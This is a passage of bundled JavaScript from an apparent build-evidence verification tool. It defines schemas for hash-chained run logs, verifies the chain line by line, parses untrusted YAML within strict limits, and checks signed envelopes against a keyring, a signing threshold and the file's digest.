/* unused harmony exports headerSchema, runSchema, checkpointSchema */
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(26921);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(64377);

/** The version of the format, and the only one there is. */
const LOG_FORMAT = '1';
/**
 * How much stands behind a record. L0: the chain alone, so whoever can write the file can write another whole chain.
 * L1: a key of the ring has signed the file's digest. L2 (a workload identity has signed) and L3 (a second, independent
 * witness has signed) are defined so that nobody uses the names for less; nothing of ours claims them, and a record that does is refused.
 * @source design, section 7
 */
const CLAIMED_LEVELS = ['L0', 'L1'];
/** Bounds of one record. What goes beyond is left out and counted in `omitted`. */
const RECORD_LIMITS = { arguments: 256, subjects: 1024, outputs: 1024, observations: 100, lineBytes: 64 * 1024 * 1024 };
const sha256 = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP()
    .regex(/^[0-9a-f]{64}$/, 'is not a SHA-256 digest: 64 lower-case hexadecimal digits')
    .transform((digits) => digits);
const instant = zod__WEBPACK_IMPORTED_MODULE_1__/* .datetime */ .w$({ precision: 3, error: 'is not an instant such as 2026-01-05T12:00:00.000Z' });
/** Four thousand characters, each of which may have become an escape such as `\\u202e`. */
const text = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().max(6 * 4096);
const word = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().regex(/^[a-z0-9][a-z0-9 ._-]{0,99}$/, 'is not a short name in lower case');
const count = zod__WEBPACK_IMPORTED_MODULE_0__/* .int */ .Whr().min(0);
const tool = zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({ name: text, version: text, sha256: sha256.nullable() });
const file = zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({ name: text, sha256 });
/** File names are made of it, so it has none of their special characters. */
const runId = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().regex(/^[0-9]{8}T[0-9]{6}Z-[0-9a-f]{12}$/, 'is not a run id such as 20260105T120000Z-0a1b2c3d4e5f');
const chained = { seq: count, prev: sha256, hash: sha256 };
const headerSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({
    ...chained,
    kind: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz('header'),
    format: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz(LOG_FORMAT),
    run_id: runId,
    started: instant,
    tool,
    platform: zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({ os: text, arch: text, node: text }),
    /** What the CI publishes about the run anyway; outside CI nothing: no user, no host. */
    identity: zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({ environment: word, builder: text, run: text.nullable() }),
    /** SHA-256 of the whole log before this one; null when there was none. */
    prev_log: sha256.nullable(),
    level: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(CLAIMED_LEVELS),
});
const runSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({
    ...chained,
    kind: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz('run'),
    at: instant,
    verb: word,
    gate: word.nullable(),
    policy_sha256: sha256.nullable(),
    subjects: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(file).max(RECORD_LIMITS.subjects),
    tool,
    argv: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(text).max(RECORD_LIMITS.arguments),
    exit_code: zod__WEBPACK_IMPORTED_MODULE_0__/* .int */ .Whr().min(0).max(255),
    duration_ms: count,
    result: word.nullable(),
    outputs: zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({ ...file.shape, bytes: count })).max(RECORD_LIMITS.outputs),
    /** What was counted, such as files seen; no judgement. */
    observations: zod__WEBPACK_IMPORTED_MODULE_0__/* .record */ .g1P(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP().regex(/^[a-z][a-z0-9_]{0,63}$/, 'is not a name such as files_modified'), count),
    omitted: count,
});
const checkpointSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .strictObject */ .rej({
    ...chained,
    kind: zod__WEBPACK_IMPORTED_MODULE_0__/* .literal */ .euz('checkpoint'),
    ended: instant,
    /** Records before this one, the header included. */
    count,
    /** Hash of the record before this one. */
    head: sha256,
});
const RECORD_SCHEMAS = { header: headerSchema, run: runSchema, checkpoint: checkpointSchema };

/***/ }),

/***/ 72581:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   I: () => (/* binding */ verifyLog)
/* harmony export */ });
/* harmony import */ var _evidence_evidence_set_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(85339);
/* harmony import */ var _model_digest_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6799);
/* harmony import */ var _model_finding_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(85382);
/* harmony import */ var _model_limits_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(44831);
/* harmony import */ var _model_path_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(80916);
/* harmony import */ var _shape_canonical_json_js__WEBPACK_IMPORTED_MODULE_10__ = __webpack_require__(46753);
/* harmony import */ var _shape_document_js__WEBPACK_IMPORTED_MODULE_9__ = __webpack_require__(93313);
/* harmony import */ var _shape_json_js__WEBPACK_IMPORTED_MODULE_8__ = __webpack_require__(5565);
/* harmony import */ var _shape_parsed_js__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(10018);
/* harmony import */ var _chain_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(24778);
/* harmony import */ var _log_record_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(7211);











const CHECK = 'log-chain-holds';
const MAX_FINDINGS = 100;
const LINE_FEED = 0x0a;
/**
 * Is this a whole, unedited chain? Every line that is not as the recorder wrote it is named.
 * A chain that holds shows that no line was changed, added, moved or removed on its own. It does not show who wrote it,
 * and nothing about what ran beyond what the lines say.
 */
function verifyLog(bytes, name = _evidence_evidence_set_js__WEBPACK_IMPORTED_MODULE_0__/* .LOG_FILE */ .UP) {
    const reading = new Reading(name);
    if (bytes.length === 0)
        reading.fail('evidence_empty', 1, 'has no content');
    else if (bytes.length > _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .LIMITS */ .b.evidenceFileBytes)
        reading.fail('evidence_over_limit', 1, `is ${bytes.length} bytes long; the limit is ${_model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .LIMITS */ .b.evidenceFileBytes}`);
    else
        readLines(bytes, reading);
    const { findings, records } = reading;
    const holds = findings.length === 0;
    return {
        findings: holds ? [(0,_model_finding_js__WEBPACK_IMPORTED_MODULE_2__/* .pass */ .IX)(CHECK, name, `${records.length} records, each bound to the one before it`)] : findings,
        level: holds ? 'L0' : undefined,
        header: records.find((record) => record.kind === 'header'),
        runs: records.filter((record) => record.kind === 'run'),
        checkpoint: records.find((record) => record.kind === 'checkpoint'),
        count: records.length,
        digest: (0,_model_digest_js__WEBPACK_IMPORTED_MODULE_1__/* .sha256 */ .sc)(bytes),
    };
}
function readLines(bytes, reading) {
    if (countLines(bytes) > _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .LIMITS */ .b.logRecords) {
        reading.fail('evidence_over_limit', _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .LIMITS */ .b.logRecords + 1, `is beyond the limit of ${_model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .LIMITS */ .b.logRecords} records`);
        return;
    }
    let start = 0;
    while (start < bytes.length && !reading.isFull) {
        const end = bytes.indexOf(LINE_FEED, start);
        if (end === -1) {
            reading.line += 1;
            reading.fail('log_unfinished', reading.line, 'is cut short: it does not end in a line feed');
            return;
        }
        reading.take(bytes.subarray(start, end));
        start = end + 1;
    }
    reading.end();
}
function countLines(bytes) {
    let count = 0;
    for (let at = bytes.indexOf(LINE_FEED); at !== -1; at = bytes.indexOf(LINE_FEED, at + 1))
        count += 1;
    return count;
}
/** The state of reading a log line by line. */
class Reading {
    name;
    findings = [];
    records = [];
    line = 0;
    /** Hash that the next record must build on; undefined after a line that could not be read. */
    #head = _chain_js__WEBPACK_IMPORTED_MODULE_5__/* .CHAIN_START */ .B;
    #closedAt;
    constructor(name) {
        this.name = name;
    }
    get isFull() {
        return this.findings.length >= MAX_FINDINGS;
    }
    fail(reason, line, message, values) {
        this.findings.push((0,_model_finding_js__WEBPACK_IMPORTED_MODULE_2__/* .failure */ .V2)(CHECK, reason, `${this.name}:${line}`, `line ${line} ${message}`, values));
    }
    take(content) {
        this.line += 1;
        if (this.#closedAt !== undefined)
            this.fail('log_chain_broken', this.line, `stands after the checkpoint in line ${this.#closedAt}`);
        const parsed = parseRecord(content);
        if (!parsed.ok) {
            this.#head = undefined;
            const reason = parsed.problems.some((problem) => problem.overLimit === true) ? 'evidence_over_limit' : 'evidence_unparseable';
            this.fail(reason, this.line, (0,_shape_parsed_js__WEBPACK_IMPORTED_MODULE_7__/* .describeProblems */ .yg)(parsed.problems));
            return;
        }
        const record = parsed.value;
        this.#checkPlace(record);
        this.#checkLink(record);
        this.#head = record.hash;
        this.records.push(record);
        if (record.kind === 'checkpoint')
            this.#closedAt ??= this.line;
    }
    end() {
        if (this.#closedAt === undefined && !this.isFull)
            this.fail('log_unfinished', this.line, 'is the last, and no checkpoint');
    }
    #checkPlace(record) {
        const { line } = this;
        if (record.seq !== line - 1)
            this.fail('log_chain_broken', line, 'does not stand at its place', { expected: `record ${line - 1}`, actual: `record ${record.seq}` });
        if ((record.kind === 'header') !== (line === 1))
            this.fail('log_chain_broken', line, line === 1 ? 'is no header' : 'is a second header');
    }
    #checkLink(record) {
        const { line } = this;
        if (this.#head !== undefined && record.prev !== this.#head)
            this.fail('log_chain_broken', line, 'does not build on the line before it', { expected: this.#head, actual: record.prev });
        const hash = (0,_chain_js__WEBPACK_IMPORTED_MODULE_5__/* .chainHash */ .q)(record.prev, record);
        if (record.hash !== hash)
            this.fail('log_chain_broken', line, 'is not what its hash was made of', { expected: hash, actual: record.hash });
        if (record.kind !== 'checkpoint')
            return;
        if (record.count !== record.seq)
            this.fail('log_chain_broken', line, 'counts other records than stand before it', { expected: String(record.seq), actual: String(record.count) });
        if (record.head !== record.prev)
            this.fail('log_chain_broken', line, 'closes another chain', { expected: record.prev, actual: record.head });
    }
}
/** A record in its one form, or what is wrong with the line. */
function parseRecord(content) {
    const json = (0,_shape_json_js__WEBPACK_IMPORTED_MODULE_8__/* .parseJson */ .q)(content, { maxBytes: _log_record_js__WEBPACK_IMPORTED_MODULE_6__/* .RECORD_LIMITS */ .xA.lineBytes, maxDepth: 8 });
    if (!json.ok)
        return json;
    const kind = json.value?.kind;
    const schema = Object.entries(_log_record_js__WEBPACK_IMPORTED_MODULE_6__/* .RECORD_SCHEMAS */ .LI).find(([known]) => known === kind)?.[1];
    if (schema === undefined)
        return (0,_shape_parsed_js__WEBPACK_IMPORTED_MODULE_7__/* .refused */ .J5)('', typeof kind === 'string' ? `is of the unknown kind "${(0,_model_path_js__WEBPACK_IMPORTED_MODULE_4__/* .printable */ .g$)(kind.slice(0, 60))}"` : 'is no record: it has no kind');
    const record = (0,_shape_document_js__WEBPACK_IMPORTED_MODULE_9__/* .checkShape */ .eA)(json.value, schema);
    if (!record.ok)
        return record;
    return (0,_shape_canonical_json_js__WEBPACK_IMPORTED_MODULE_10__/* .canonicalJson */ .d)(record.value) === (0,_shape_json_js__WEBPACK_IMPORTED_MODULE_8__/* .decodeUtf8 */ ._)(content) ? record : (0,_shape_parsed_js__WEBPACK_IMPORTED_MODULE_7__/* .refused */ .J5)('', 'is not canonical JSON (RFC 8785)');
}

/***/ }),

/***/ 69316:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   h: () => (/* binding */ parseYaml)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _json_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5565);
/* harmony import */ var _parsed_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(10018);



/** Half of a character, which an escape such as "\\ud800" can write. */
const LONE_SURROGATE = /\p{Surrogate}/u;
/** Beyond this many problems the rest tells nothing new. */
const MAX_PROBLEMS = 50;
/**
 * Reads untrusted YAML 1.2 (core schema): one document, UTF-8 without BOM, no key twice, no tags, no
 * directives, bounded in size, depth and aliases. Every problem is listed by `line:column`.
 * @source YAML 1.2.2, sections 6.8 and 10.3
 */
function parseYaml(content, limits) {
    const size = typeof content === 'string' ? Buffer.byteLength(content) : content.byteLength;
    if (size > limits.maxBytes)
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)('', `is ${size} bytes long; the limit is ${limits.maxBytes}`);
    const text = typeof content === 'string' ? content : (0,_json_js__WEBPACK_IMPORTED_MODULE_2__/* .decodeUtf8 */ ._)(content);
    if (text === undefined)
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)('', 'is not valid UTF-8');
    if (text.startsWith('\uFEFF'))
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)('1:1', 'begins with a byte order mark; save the file as UTF-8 without one');
    const lines = new yaml__WEBPACK_IMPORTED_MODULE_0__.LineCounter();
    const at = (offset) => {
        const { line, column } = position(lines, offset);
        return `${line}:${column}`;
    };
    const { tokens, refusal } = tokenize(text, lines, limits);
    if (refusal !== undefined)
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)(at(refusal.offset), refusal.message);
    const directive = tokens.find((token) => token.type === 'directive');
    if (directive !== undefined)
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)(at(directive.offset), 'has a directive; DuRi reads plain YAML 1.2');
    const [document, second] = compose(tokens, text.length);
    if (document === undefined || document.contents === null)
        return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .refused */ .J5)('', 'is empty');
    const problems = [
        ...(second === undefined ? [] : [{ where: at(second.range[0]), message: 'begins a second document; one is allowed' }]),
        ...document.errors.slice(0, MAX_PROBLEMS).map(({ code, message, pos }) => ({ where: at(pos[0]), message: yamlMessage(code, message) })),
        ...inspect(document, limits, at),
    ];
    if (problems.length > 0)
        return { ok: false, problems };
    return (0,_parsed_js__WEBPACK_IMPORTED_MODULE_1__/* .parsed */ .Yz)(toYamlDocument(document, lines));
}
/** A document and a scalar stand on the parser's stack beside the collections that are open. */
const STACK_BESIDE_LEVELS = 2;
/** The tokens of a text; what is nested too deeply or too long is refused here, before anything recurses. */
function tokenize(text, lines, limits) {
    lines.addNewLine(0);
    const parser = new yaml__WEBPACK_IMPORTED_MODULE_0__.Parser(lines.addNewLine);
    const tokens = [];
    let lexemes = 0;
    for (const lexeme of new yaml__WEBPACK_IMPORTED_MODULE_0__.Lexer().lex(text)) {
        for (const token of parser.next(lexeme))
            tokens.push(token);
        lexemes += 1;
        if (parser.stack.length > limits.maxDepth + STACK_BESIDE_LEVELS)
            return { tokens, refusal: { offset: parser.offset, message: `is nested deeper than ${limits.maxDepth} levels` } };
        if (lexemes > limits.maxTokens)
            return { tokens, refusal: { offset: parser.offset, message: `has more than ${limits.maxTokens} words and marks` } };
    }
    for (const token of parser.end())
        tokens.push(token);
    return { tokens };
}
const COMPOSER = { schema: 'core', version: '1.2', strict: true, merge: false, resolveKnownTags: false, logLevel: 'silent' };
/** The documents of a text. `uniqueKeys` is off because it compares each key with every other; `inspect` finds them in one pass. */
function compose(tokens, length) {
    return [...new yaml__WEBPACK_IMPORTED_MODULE_0__.Composer({ ...COMPOSER, uniqueKeys: false }).compose(tokens, true, length)];
}
function yamlMessage(code, message) {
    if (code === 'TAB_AS_INDENT')
        return 'is indented by a tab; YAML indents by spaces';
    return `is not valid YAML: ${message.charAt(0).toLowerCase()}${message.slice(1)}`;
}
/** What the parser takes and we do not: tags, keys that stand twice or are no plain text, aliases that loop or multiply. */
function inspect(document, limits, at) {
    const problems = [];
    let aliases = 0;
    const refuse = (node, message) => {
        if (problems.length < MAX_PROBLEMS)
            problems.push({ where: at(node.range?.[0] ?? 0), message });
    };
    const lookAtAlias = (node, above) => {
        aliases += 1;
        if (aliases === limits.maxAliases + 1)
            refuse(node, `is one alias too many; at most ${limits.maxAliases} are allowed`);
        if (aliases > limits.maxAliases)
            return;
        const source = node.resolve(document);
        if (source === undefined)
            refuse(node, `refers to "${node.source}", which is not defined above`);
        else if (above.includes(source))
            refuse(node, `refers to "${node.source}" from within itself`);
    };
    const lookAtKeys = (map) => {
        const seen = new Set();
        for (const { key } of map.items) {
            const name = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(key) ? String(key.value) : undefined;
            if (name === undefined)
                refuse((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isNode)(key) ? key : map, 'is a key that is no plain text');
            else if (seen.has(name))
                refuse(key, `the key ${JSON.stringify(name)} stands twice in one mapping`);
            else
                seen.add(name);
        }
    };
    const look = (node, above) => {
        if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isPair)(node)) {
            look(node.key, above);
            look(node.value, above);
        }
        else if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isAlias)(node)) {
            lookAtAlias(node, above);
        }
        else if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isNode)(node)) {
            if (node.tag !== undefined)
                refuse(node, 'has a tag; tags are not allowed');
            if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(node) && typeof node.value === 'string' && LONE_SURROGATE.test(node.value))
                refuse(node, 'is not valid Unicode');
            if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(node))
                lookAtKeys(node);
            if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(node) || (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(node))
                for (const item of node.items)
                    look(item, [...above, node]);
        }
    };
    look(document.contents, []);
    return problems;
}
function toYamlDocument(document, lines) {
    const follow = (path) => {
        let node = document.contents ?? undefined;
        for (const part of path) {
            const whole = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isAlias)(node) ? node.resolve(document) : node;
            const next = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(whole) || (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(whole) ? whole.get(part, true) : undefined;
            if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isNode)(next))
                return node;
            node = next;
        }
        return node;
    };
    return {
        value: document.toJS({ maxAliasCount: 100 }),
        locate: (path, key) => {
            const node = follow(path);
            const pair = key === undefined || !(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(node) ? undefined : node.items.find((item) => (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(item.key) && String(item.key.value) === key);
            return position(lines, ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isNode)(pair?.key) ? pair.key : node)?.range?.[0] ?? 0);
        },
        written: (path) => {
            const node = follow(path);
            return (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(node) ? node.source : undefined;
        },
    };
}
function position(lines, offset) {
    const { line, col } = lines.linePos(offset);
    return { line: Math.max(1, line), column: Math.max(1, col) };
}

/***/ }),

/***/ 80990:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Y: () => (/* binding */ verifyEnvelope)
});

// EXTERNAL MODULE: ./build/src/envelope/envelope.js
var envelope_envelope = __webpack_require__(85544);
// EXTERNAL MODULE: ./build/src/envelope/statement.js
var envelope_statement = __webpack_require__(18563);
// EXTERNAL MODULE: ./build/src/model/finding.js
var finding = __webpack_require__(85382);
// EXTERNAL MODULE: ./build/src/shape/parsed.js
var parsed = __webpack_require__(10018);
// EXTERNAL MODULE: ./build/src/verification/attribute-signatures.js + 5 modules
var attribute_signatures = __webpack_require__(13946);
;// CONCATENATED MODULE: ./build/src/verification/envelope-checks.js
/** The claims about an envelope, in the order in which they are checked. */
const ENVELOPE_CHECKS = {
    form: 'envelope-is-well-formed',
    signers: 'every-listed-signer-has-signed',
    threshold: 'enough-trusted-keys-have-signed',
    type: 'statement-is-of-its-kind',
    subject: 'statement-is-about-this-file',
};
;// CONCATENATED MODULE: ./build/src/verification/check-signers.js


/**
 * Has everyone signed whom the statement lists? A signature that was taken out or altered is seen even where enough
 * others remain. A signer that has left the ring can no longer be asked.
 * @source trust model, section 2
 */
function checkSigners(file, signers, attributions, trust) {
    const keys = signers.map((id) => ({ id, key: trust.ring.keys.find((key) => key.id === id) }));
    const listed = keys.map(({ id, key }) => key === undefined
        ? (0,finding/* notApplicable */.hH)(ENVELOPE_CHECKS.signers, file, `${id} has left the ring; its signature is not looked at`)
        : checkSigner(file, key, attributions));
    const left = keys.some(({ key }) => key !== undefined) ? keys.filter(({ key }) => key === undefined) : []; // of none known, the threshold says more
    const strangers = attributions.filter(({ claimed, verified, uncheckable }) => verified === undefined && uncheckable === undefined && !signers.includes(claimed));
    return {
        findings: [
            ...listed,
            ...strangers.map(({ claimed }) => (0,finding/* notApplicable */.hH)(ENVELOPE_CHECKS.signers, file, `the signature by ${claimed} is not listed, and no key of the ring made it: it does not count`)),
        ],
        warnings: left.map(({ id }) => (0,finding/* warning */.$e)('signer_not_in_ring', file, `${id} is listed as a signer and has left the ring.`)),
        broken: listed.filter(({ outcome }) => outcome === 'fail').length,
    };
}
function checkSigner(file, key, attributions) {
    const fail = (reason, message) => (0,finding/* failure */.V2)(ENVELOPE_CHECKS.signers, reason, file, message);
    const own = attributions.find(({ verified }) => verified?.id === key.id);
    // The key id is not signed. An altered one hides nothing, and is an alteration all the same.
    if (own !== undefined && own.claimed !== key.id)
        return fail('signature_invalid', `the signature by ${key.id} is labelled with another key id`);
    if (own !== undefined)
        return (0,finding/* pass */.IX)(ENVELOPE_CHECKS.signers, file, `the signature by ${key.id} verifies`);
    if (attributions.some(({ uncheckable }) => uncheckable?.id === key.id))
        return (0,finding/* notApplicable */.hH)(ENVELOPE_CHECKS.signers, file, `the signature by ${key.id} cannot be checked here: its secret is not at hand`);
    if (attributions.some(({ claimed }) => claimed === key.id))
        return fail('signature_invalid', `the signature by ${key.id} does not verify over the payload`);
    return fail('signature_stripped', `lists ${key.id} as a signer, and has no signature by it`);
}
// EXTERNAL MODULE: ./build/src/keys/standing.js
var keys_standing = __webpack_require__(13840);
;// CONCATENATED MODULE: ./build/src/verification/accepted-keys.js

/** Why a signature by this key does not count, though it verifies; undefined when it counts. @source trust model, section 2 */
function refusalOf(key, requirement, { ring, at }) {
    const refuse = (reason, message) => ({ key, reason, message });
    const standing = (0,keys_standing/* standingOf */.YP)(key, ring, at);
    if (standing.refusal !== undefined)
        return refuse(standing.refusal, `signed by ${key.id}, which is ${standing.says}`);
    if (!requirement.dualVerify && (key.state === 'retired' || (0,keys_standing/* isReplaced */.tc)(key.id, ring, at))) {
        return refuse('key_outside_window', `signed by ${key.id}, which is ${standing.says}; DURI_HMAC_KEY_DUAL_VERIFY=false accepts the newest key only`);
    }
    if (!key.uses.includes(requirement.use))
        return refuse('key_wrong_use', `signed by ${key.id}, whose uses are ${key.uses.join(', ')} and not ${requirement.use}`);
    if (!requirement.kinds.includes(key.kind))
        return refuse('signature_threshold', `signed by ${key.id} of the kind ${key.kind}; policy counts ${requirement.kinds.join(', ')}`);
    return undefined;
}
/** Keys without repetition. An id is the fingerprint of the key itself, so two entries cannot be one key under two ids. */
function distinct(keys) {
    return [...new Map(keys.map((key) => [key.id, key])).values()];
}
;// CONCATENATED MODULE: ./build/src/verification/check-threshold.js




/** Have as many different trusted keys signed as policy requires, of the kinds that it counts? @source trust model, section 2 */
function checkThreshold(request, attributions) {
    const { trust, use, dualVerify, requirement } = request;
    const rule = { use, kinds: requirement.kinds, dualVerify };
    const verified = distinct(attributions.flatMap((one) => one.verified ?? []));
    const refusals = verified.flatMap((key) => refusalOf(key, rule, trust) ?? []);
    const accepted = verified.filter((key) => !refusals.some((refusal) => refusal.key === key)).sort((a, b) => (a.id < b.id ? -1 : 1));
    const open = distinct(attributions.flatMap((one) => one.uncheckable ?? [])).filter((key) => refusalOf(key, rule, trust) === undefined && !accepted.includes(key));
    const met = accepted.length >= requirement.threshold;
    return {
        findings: met ? enough(request, accepted, refusals) : tooFew(request, { accepted, refusals, open, verified }),
        warnings: met ? warningsOf(request, accepted) : [],
        accepted,
    };
}
/** A key that no longer counts takes nothing away from those that do: a release can be signed again by the current key. */
function enough({ file, requirement }, accepted, refusals) {
    return [
        (0,finding/* pass */.IX)(ENVELOPE_CHECKS.threshold, file, `${accepted.length} of ${requirement.threshold} required keys have signed`),
        ...refusals.map(({ message }) => (0,finding/* notApplicable */.hH)(ENVELOPE_CHECKS.threshold, file, `${message}: it does not count`)),
    ];
}
/** Why there are too few, as closely as it can be told. */
function tooFew({ file, requirement: { threshold, kinds }, signers, trust, broken }, { accepted, refusals, open, verified }) {
    const fail = (reason, message, values) => (0,finding/* failure */.V2)(ENVELOPE_CHECKS.threshold, reason, file, message, values);
    const known = trust.ring.keys.some(({ id }) => signers.includes(id));
    if (verified.length === 0 && open.length === 0 && !known)
        return [fail('key_unknown', `signed by ${signers.slice(0, 4).join(', ')}: no such key is in the ring`)];
    if (accepted.length + open.length >= threshold)
        return [fail('secret_missing', `the signature by ${open.map(({ id }) => id).join(', ')} can only be checked with its secret`)];
    const specific = refusals.map(({ reason, message }) => fail(reason, message));
    const explained = accepted.length + specific.length + broken >= threshold;
    if (explained && specific.length > 0)
        return specific;
    return [
        ...specific,
        fail('signature_threshold', 'too few trusted keys have signed', {
            expected: `${threshold} of the kinds ${kinds.join(', ')}`,
            actual: String(accepted.length),
        }),
    ];
}
function warningsOf({ file, trust, warnHmacOnly }, accepted) {
    const rotating = accepted.map((key) => ({ key, standing: (0,keys_standing/* standingOf */.YP)(key, trust.ring, trust.at) })).filter(({ standing }) => standing.rotating);
    const warnings = rotating.map(({ key, standing }) => (0,finding/* warning */.$e)('key_rotating', file, `Signed by ${key.id}: ${standing.says}.`));
    const hmacOnly = warnHmacOnly === true && accepted.every(({ kind }) => kind === 'hmac-sha256');
    return hmacOnly ? [...warnings, (0,finding/* warning */.$e)('hmac_only', file, 'Nothing but HMAC stands behind this file: a host that can check it can forge it.')] : warnings;
}
;// CONCATENATED MODULE: ./build/src/verification/verify-envelope.js








/**
 * Does this envelope prove that trusted keys signed exactly this file, as this kind of document? The first failure
 * decides: not there, not readable, not signed by whom it must be, signed about something else. What depends on a
 * failure is `unknown`. Never throws for what the file holds.
 * @source trust model, sections 2 and 4
 */
function verifyEnvelope(request) {
    const { file, content, trust } = request;
    if (content === undefined)
        return ends(request, 'signature_missing', `${file} is not there`);
    if (content.byteLength === 0)
        return ends(request, 'evidence_empty', `${file} is empty`);
    const envelope = (0,envelope_envelope/* parseEnvelope */.mE)(content);
    if (!envelope.ok)
        return ends(request, malformed(envelope.problems), `${file} ${(0,parsed/* describeProblems */.yg)(envelope.problems)}`);
    const statement = (0,envelope_statement/* parseStatement */.By)(envelope.value.payload);
    if (!statement.ok)
        return ends(request, malformed(statement.problems), `the payload of ${file} ${(0,parsed/* describeProblems */.yg)(statement.problems)}`);
    const signers = (0,envelope_statement/* listedSigners */.tX)(statement.value);
    if (signers === undefined)
        return ends(request, 'evidence_unparseable', `the payload of ${file} does not list its signers`);
    if (trust.ring.keys.length === 0)
        return ends(request, 'keyring_missing', 'there is no key to believe a signature by', ENVELOPE_CHECKS.signers);
    return judge(request, envelope.value, statement.value, signers);
}
function judge(request, envelope, statement, signers) {
    const { file, trust } = request;
    const attributions = (0,attribute_signatures/* attributeSignatures */.K)(envelope, trust);
    const presence = checkSigners(file, signers, attributions, trust);
    const threshold = checkThreshold({ ...request, signers, broken: presence.broken }, attributions);
    const anyVerified = attributions.some(({ verified }) => verified !== undefined);
    const findings = [
        (0,finding/* pass */.IX)(ENVELOPE_CHECKS.form, file, 'is an envelope with a statement, in canonical form'),
        ...presence.findings,
        ...threshold.findings,
        ...(anyVerified ? [checkType(request, statement), checkSubject(request, statement)] : unknowns(file, [ENVELOPE_CHECKS.type, ENVELOPE_CHECKS.subject])),
    ];
    const authentic = !findings.some(({ outcome }) => outcome === 'fail' || outcome === 'unknown');
    return {
        findings,
        warnings: [...presence.warnings, ...threshold.warnings],
        authentic,
        statement: authentic ? statement : undefined,
        signedBy: threshold.accepted.map(({ id, kind }) => ({ keyId: id, kind })),
    };
}
function checkType({ file, predicateType }, statement) {
    if (statement.predicateType === predicateType)
        return (0,finding/* pass */.IX)(ENVELOPE_CHECKS.type, file, 'is of the kind that it must be');
    return (0,finding/* failure */.V2)(ENVELOPE_CHECKS.type, 'signature_wrong_type', file, 'signs a document of another kind', {
        expected: predicateType,
        actual: statement.predicateType,
    });
}
function checkSubject({ file, subject }, statement) {
    if (statement.subjects.some(({ digest }) => digest === subject.digest))
        return (0,finding/* pass */.IX)(ENVELOPE_CHECKS.subject, file, `signs ${subject.name} as it is`);
    const [first] = statement.subjects;
    return (0,finding/* failure */.V2)(ENVELOPE_CHECKS.subject, 'signature_wrong_file', file, `does not sign ${subject.name} as it is`, {
        expected: first?.digest ?? 'a subject',
        actual: subject.digest,
    });
}
/** A result that ends at its first failure; every later check is unknown. */
